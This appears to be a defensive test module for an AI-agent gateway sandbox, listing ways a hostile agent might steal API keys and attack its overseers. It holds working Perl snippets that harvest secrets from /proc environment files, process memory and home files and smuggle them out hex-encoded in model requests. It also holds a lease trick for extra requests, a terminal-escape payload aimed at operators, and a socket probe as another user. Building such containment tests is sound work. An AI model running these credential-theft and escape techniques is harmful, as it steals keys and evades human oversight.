import { execFile } from 'node:child_process';
import { chmod, mkdir } from 'node:fs/promises';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { systemClock } from '../../src/lib/clock.ts';
import { waitUntil } from '../../src/lib/wait-until.ts';
import { openDatabase } from '../../src/store/database.ts';
import { processesWith, uniqueSleep, untilProcessesWith } from '../../src/testing/marked-processes.ts';
import { tempFolder, tempRepository } from '../../src/testing/temp-repository.ts';
import { type Attack, KEPT, whereAllowed } from './attack.ts';
import { inTerminal, isObeyed } from './claims.ts';
import { asks, IS_ANSWERED, request } from './gateway-asking.ts';
import { calling, type Metered, meteredAt } from './gateway-installed.ts';
import { answersKindly, carelessPipe, gatewayOf, openWay, provider } from './gateway-way.ts';
import { hostileRun } from './installed.ts';
import type { Stage } from './stage.ts';

/** What an agent may try to get at keys and tokens, and at the people who look at what it did. */

/** Every place in which a process of this machine shows its environment, or its memory; what is found goes to the model, written in another way. */
const FOUND = 'begin("{\\"model\\":\\"known\\",\\"input\\":\\"" . unpack("H*", $found) . "\\"}")';
const IN_ENVIRONMENTS = `my $found = ""; for my $e (glob "/proc/[0-9]*/environ /proc/[0-9]*/task/*/environ") { open(my $in, "<", $e) or next; local $/; my $all = <$in> // ""; $found .= $1 if $all =~ /(KEY[0-9a-f]{18})/ } hear(${FOUND});`;
const IN_MEMORY = `my %found; for my $p (glob "/proc/[0-9]*") { open(my $c, "<", "$p/cmdline") or next; my $args = do { local $/; <$c> } // ""; next unless $args =~ /server\\0run/;
open(my $maps, "<", "$p/maps") or next; open(my $mem, "<:raw", "$p/mem") or next;
while (<$maps>) { next unless /^([0-9a-f]+)-([0-9a-f]+) rw/; my ($from, $to) = (hex $1, hex $2); next if $to - $from > 300_000_000; sysseek($mem, $from, 0) or next; sysread($mem, my $data, $to - $from) or next; $found{$1} = 1 while $data =~ /(KEY[0-9a-f]{18})/g } } my $found = join " ", keys %found; hear(${FOUND});`;
const IN_OWN = `my $found = join(" ", %ENV); for my $f (glob("~/* ~/.* /tmp/* ./.* /proc/self/environ /proc/self/cmdline")) { next unless -f $f && -s $f < 1_000_000; open(my $in, "<", $f) or next; local $/; $found .= <$in> // "" } $found = substr($found, 0, 500000); hear(${FOUND});`;

function reads(name: string, program: string): Attack {
  return {
    name,
    subject: 'gateway keys',
    async play({ level }) {
      const metered = await meteredAt(level, { isBounded: false });
      metered.answers = answersKindly;
      const before = metered.provider.arrived.length;
      await using _ = await hostileRun(level, calling(program), { at: metered.at });
      const told = metered.provider.arrived.slice(before);
      if (told.length === 0) throw new Error('it could not tell anything');
      const inHex = Buffer.from(metered.key).toString('hex');
      return { before: KEPT, after: told.some(({ body }) => body.includes(inHex)) ? 'taken' : KEPT };
    },
    twin: IS_ANSWERED,
  };
}

/** Where agents without a gateway get their key from. */
const inItsOwn: Attack = {
  ...reads('reads the key of its model in its own environment and files', IN_OWN),
  async careless(stage) {
    const { output } = await stage.agent(`OPENAI_API_KEY=${stage.secret}; export OPENAI_API_KEY; env`);
    return { before: KEPT, after: output.includes(stage.secret) ? 'taken' : KEPT };
  },
};

const takenOver: Attack = {
  name: 'asks on, for what costs nothing as well, when another attempt has taken its step over',
  subject: 'gateway keys',
  async play({ level }) {
    return { before: 'refused', after: await askedAfterwards(await meteredAt(level, { isBounded: false })) };
  },
  async careless(stage) {
    const open = await askedAfterwards(await meteredAt('none', { isBounded: false }));
    if (open !== 'refused') throw new Error('the gateway itself lets it through');
    await using to = await provider();
    await using way = await carelessPipe(stage, to);
    await asks(stage, way, [request(way), request(way, { method: 'GET', path: '/v1/models', body: '' })]);
    return { before: 'refused', after: to.arrived.length > 1 ? 'came through' : 'refused' };
  },
  twin: IS_ANSWERED,
};

/** Asks once, is taken over, asks twice more, and for what costs nothing; then it is a program that shows that it is done. */
const asksOn = (done: string): string =>
  `my $body = "{\\"model\\":\\"known\\"}"; hear(begin($body)) for 1 .. 3; my $c = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => $port) or die; print $c "GET /v1/models HTTP/1.1\\r\\nHost: x\\r\\nAuthorization: Bearer $token\\r\\nConnection: close\\r\\n\\r\\n"; $c->flush; hear($c); exec "sleep", "${done}";`;

async function askedAfterwards(metered: Metered): Promise<string> {
  const { at } = metered;
  const done = uniqueSleep();
  const { databaseUrl } = await at.client.call('joinWorker', {});
  await using database = openDatabase(databaseUrl, { clock: systemClock });
  await using repository = await tempRepository({
    'README.md': 'x\n',
    'agent.sh': calling(asksOn(done)),
    '.switchyard/config.yaml': 'checks: {}\nsetup: none\n',
  });
  const before = metered.provider.arrived.length;
  const arrived = () => metered.provider.arrived.slice(before);
  let run: string | undefined;
  const lease = (by: number) =>
    database.query(`update step set lease = lease + ${by} where run = $1 and state = 'running'`, [run]);
  metered.answers = async (one, response) => {
    if (arrived().length === 1) {
      await waitUntil(async () => run !== undefined, { timeoutMs: 20_000, what: 'the run to be known' });
      await lease(1);
    }
    await answersKindly(one, response);
  };
  const started = await at.cli(['run', 'Be good', '--agent', 'hostile', '--detach', '--json'], {
    cwd: repository.path,
  });
  run = (JSON.parse(started.stdout) as { run: string }).run;
  await untilProcessesWith(done, 1);
  await lease(-1);
  for (const pid of processesWith(done)) process.kill(pid, 'SIGTERM');
  await at.settled(run);
  return arrived().length > 1 ? 'came through' : 'refused';
}

const NAME = `evil\u001b[2J\u001b]0;owned\u0007\u009b31m\u202e${'x'.repeat(2 ** 20)}`;

/** What a person's terminal is sent when he looks at what that model cost. */
const namesModels: Attack = {
  name: 'has a model whose name is an order to the terminal, a megabyte long',
  subject: 'gateway keys',
  async play({ level }) {
    const { screen } = await looked(level);
    return {
      before: 'plain',
      after: isObeyed(screen) || screen.length > 100_000 ? 'obeyed' : 'plain',
    };
  },
  async careless() {
    const { key } = await looked('none');
    return { before: 'plain', after: isObeyed(key) ? 'obeyed' : 'plain' };
  },
  twin: IS_ANSWERED,
};

async function looked(level: Stage['level']): Promise<{ screen: string; key: string }> {
  const metered = await meteredAt(level, { isBounded: false });
  metered.answers = (_arrived, response) => {
    response.writeHead(200, { 'content-type': 'application/json' });
    response.end(JSON.stringify({ model: NAME, output: [], usage: { input_tokens: 10, output_tokens: 5 } }));
  };
  const program = `hear(begin("{\\"model\\":\\"known\\"}")); hear(begin("{\\"model\\":\\"evil\\\\u001b[2J\\\\u009b\\"}")); hear(begin("{\\"model\\":\\"" . ("y" x 1000000) . "\\"}"))`;
  await using run = await hostileRun(level, calling(program), { at: metered.at });
  const screen = await inTerminal(run, ['usage --by model', 'show', 'logs']);
  const usage = await metered.at.cli(['usage', run.detail.id, '--by', 'model', '--json']);
  const { rows } = JSON.parse(usage.stdout) as { rows: { key: string }[] };
  return { screen, key: rows[0]?.key ?? '' };
}

/** Somebody else on this machine. */
const asOther = async (socket: string): Promise<'reached' | 'refused'> => {
  const program =
    'use Socket; socket(my $s, AF_UNIX, SOCK_STREAM, 0); print connect($s, pack_sockaddr_un($ARGV[0])) ? "reached" : "refused"';
  const argv = ['--reuid=1000', '--regid=1000', '--clear-groups', '/usr/bin/perl', '-e', program, '--', socket];
  return (await promisify(execFile)('setpriv', argv, { cwd: '/' })).stdout === 'reached' ? 'reached' : 'refused';
};

const otherUser: Attack = {
  name: 'is another user of this machine, and connects to the socket of a way',
  subject: 'gateway keys',
  lacks: async () => (process.geteuid?.() === 0 ? undefined : 'only root can be somebody else'),
  async play(stage) {
    await using to = await provider();
    using gateway = gatewayOf(stage);
    await using way = await openWay(stage, { gateway, to });
    const [bridge] = way.egress.bridges;
    // Whoever may look into the folders above; the socket's own is what protects it.
    for (const folder of [stage.folder, stage.home, join(stage.home, 'sockets')])
      await chmod(folder, 0o755).catch(() => undefined);
    return { before: 'refused', after: bridge === undefined ? 'refused' : await asOther(bridge.socket) };
  },
  async careless() {
    await using folder = await tempFolder('switchyard-attack-socket');
    await chmod(folder.path, 0o755);
    await mkdir(join(folder.path, 'open'));
    const socket = join(folder.path, 'open', 'way');
    const server = createServer((connection) => connection.destroy());
    await new Promise<void>((resolve) => server.listen(socket, resolve));
    await chmod(socket, 0o777);
    try {
      return { before: 'refused', after: await asOther(socket) };
    } finally {
      await new Promise((resolve) => server.close(resolve));
    }
  },
  twin: IS_ANSWERED,
};

export const gatewaySecrets: readonly Attack[] = [
  reads('reads the key of its model in the environment of any process', IN_ENVIRONMENTS),
  whereAllowed(reads('reads the key of its model in the memory of the gateway', IN_MEMORY)),
  inItsOwn,
  takenOver,
  namesModels,
  otherUser,
];
